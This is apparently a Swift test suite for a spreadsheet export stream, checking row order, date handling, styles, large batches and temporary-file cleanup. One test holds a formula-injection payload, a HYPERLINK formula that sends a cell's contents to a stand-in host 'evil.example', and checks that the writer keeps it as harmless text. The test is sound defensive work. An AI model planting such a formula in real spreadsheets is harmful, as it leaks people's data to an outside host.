import Foundation
import Testing
import WaymarkCore
@testable import WaymarkFormats

/// The streamed workbook, held to the reader that takes schools' files.
@Suite struct WorkbookStreamTests {
    static func readBack(_ stream: WorkbookStream) async throws -> (data: Data, grid: ImportGrid) {
        var data = Data()
        try await stream.read { data.append($0) }
        return (data, try XLSXReader.grid(data, limits: .standard))
    }

    @Test func rowsAppendedInBatchesReadBackInOrderWithTheHeaderFirst() async throws {
        let stream = try WorkbookStream(sheetName: "Not known", header: ["Record number", "Name", "Date of birth"])
        defer { stream.remove() }
        try stream.append([[.integer(4), .text("Amara Okafor"), .date(try CalendarDate(iso: "2009-03-14"))]])
        try stream.append([[.integer(9), .text("Sam Ng"), .empty], [.integer(12), .text("Jo & Co <b>"), .date(try CalendarDate(iso: "2008-12-31"))]])
        #expect(stream.rowCount == 4)
        let (data, grid) = try await Self.readBack(stream)
        #expect(data.starts(with: [0x50, 0x4B, 0x03, 0x04]))
        #expect(grid.rows.map(\.number) == [1, 2, 3, 4])
        #expect(grid.rows[0].cells == ["Record number", "Name", "Date of birth"])
        #expect(grid.rows[1].cells.prefix(2) == ["4", "Amara Okafor"])
        #expect(grid.rows[2].cells == ["9", "Sam Ng"], "an empty cell is left out, as Excel does")
        #expect(grid.rows[3].cells.prefix(2) == ["12", "Jo & Co <b>"])
        // A date is a real date: Excel's day serial, in a date format, which the import reader turns back into the day.
        #expect(try ImportValues.date(grid.rows[1].cells[2], excelSerial: true) == (try CalendarDate(iso: "2009-03-14")))
        #expect(try ImportValues.date(grid.rows[3].cells[2], excelSerial: true) == (try CalendarDate(iso: "2008-12-31")))
    }

    @Test func aFormulaInATextCellIsAStringNeverAFormula() async throws {
        let hostile = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")"
        let xml = WorkbookWriter.sheet([[.text(hostile), .text("+1"), .text("Plain")]])
        #expect(!xml.contains("<f>") && !xml.contains("<f "), "no formula element anywhere")
        #expect(xml.contains("<c r=\"A1\" s=\"3\" t=\"inlineStr\"><is><t xml:space=\"preserve\">=HYPERLINK(&quot;http://evil.example/?&quot;&amp;A1,&quot;Click&quot;)</t></is></c>"),
                "an inline string with Excel's quote prefix, so editing it later does not run it either")
        #expect(xml.contains("<c r=\"C1\" t=\"inlineStr\">"), "ordinary text has no quote prefix")
        let stream = try WorkbookStream(sheetName: "Names", header: ["Name"])
        defer { stream.remove() }
        try stream.append([[.text(hostile)]])
        let (_, grid) = try await Self.readBack(stream)
        #expect(grid.rows[1].cells == [hostile], "the text itself is kept, not prefixed: it is a string cell")
    }

    @Test func theStylesGiveDatesADateFormatAndTheHeaderItsWeight() {
        #expect(WorkbookWriter.styles.contains("<numFmt numFmtId=\"164\" formatCode=\"yyyy-mm-dd\"/>"))
        #expect(WorkbookWriter.sheet([[.date(try! CalendarDate(iso: "1970-01-01"))]]).contains("<c r=\"A1\" s=\"1\"><v>25569</v></c>"))
        #expect(WorkbookWriter.serial(try! CalendarDate(iso: "1900-03-01")) == 61)
        #expect(WorkbookWriter.serial(try! CalendarDate(iso: "1900-02-28")) == nil, "before Excel's phantom 29 February 1900, a date stays text")
        #expect(WorkbookWriter.sheetStart(frozenHeader: true).contains("state=\"frozen\""))
        #expect(WorkbookWriter.styles.contains("<cellXfs count=\"5\">") && WorkbookWriter.styles.components(separatedBy: "<xf ").count - 1 == 6,
                "five cell formats and the one cell style, as counted")
        #expect(WorkbookWriter.sheet([[.percentage(61.54)]]).contains("<c r=\"A1\" s=\"4\"><v>61.5</v></c>"), "a number, shown to one place")
    }

    /// Many batches, as a long queue arrives: every row reads back once, in order,
    /// and the sheet went to disk batch by batch rather than into one string.
    @Test func aLongListReadsBackRowForRow() async throws {
        let stream = try WorkbookStream(sheetName: "Long", header: ["Record number", "Name"])
        defer { stream.remove() }
        for batch in 0..<40 {
            try stream.append((0..<500).map { [.integer(batch * 500 + $0), .text("Person \(batch * 500 + $0)")] })
        }
        let (_, grid) = try await Self.readBack(stream)
        #expect(grid.rows.count == 20_001)
        #expect(grid.rows.dropFirst().enumerated().allSatisfy { $0.element.cells == [String($0.offset), "Person \($0.offset)"] })
    }

    @Test func removingTakesTheTemporaryFilesAway() async throws {
        let stream = try WorkbookStream(sheetName: "Gone")
        try stream.append([[.text("x")]])
        let file = try stream.finish()
        #expect(FileManager.default.fileExists(atPath: file.path))
        let permissions = try FileManager.default.attributesOfItem(atPath: file.deletingLastPathComponent().path)[.posixPermissions] as? Int
        #expect(permissions == 0o700, "the folder is this user's alone")
        stream.remove()
        #expect(!FileManager.default.fileExists(atPath: file.deletingLastPathComponent().path))
    }
}
